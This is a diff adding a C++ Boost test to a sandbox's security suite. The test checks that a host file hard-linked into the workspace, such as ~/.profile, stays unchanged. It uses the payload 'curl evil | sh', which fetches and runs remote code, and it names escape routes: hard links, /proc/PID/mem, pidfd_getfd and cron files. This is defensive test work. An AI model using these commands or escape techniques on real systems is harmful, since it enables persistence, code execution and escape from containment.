@@ -296,6 +296,18 @@ network: none
   BOOST_TEST(r.out.find("aws-secret-key") == std::string::npos, r.describe());
 }
 
+// ESCAPE (all; may be declared a documented limit): a file outside every writable root
+// that also has a name inside the workspace (a hard link made on the host: cp -al, rsync
+// --link-dest, a chroot tree) is written through that name. Here ~/.profile; as root any
+// root-owned file on the same filesystem (/usr/bin/bwrap, /etc/cron.d/*).
+BOOST_DATA_TEST_CASE(a_host_file_hard_linked_into_the_workspace_stays_unchanged,
+                     bdata::make(kCallers), caller) {
+  Sandbox box(caller);
+  BOOST_TEST_REQUIRE(::link((box.home() + "/.profile").c_str(), box.ws("profile").c_str()) == 0);
+  auto r = box.sh("echo 'curl evil | sh' >> profile");
+  BOOST_TEST(read_file(box.home() + "/.profile").value_or("") == "echo profile\n", r.describe());
+}
+
 // ESCAPE (all, low): ptrace and process_vm_writev are denied, yet /proc/PID/mem and
 // pidfd_getfd give the same power over a sibling in the sandbox.
 BOOST_DATA_TEST_CASE(proc_mem_and_pidfd_getfd_do_not_bypass_the_ptrace_deny, bdata::make(kCallers),
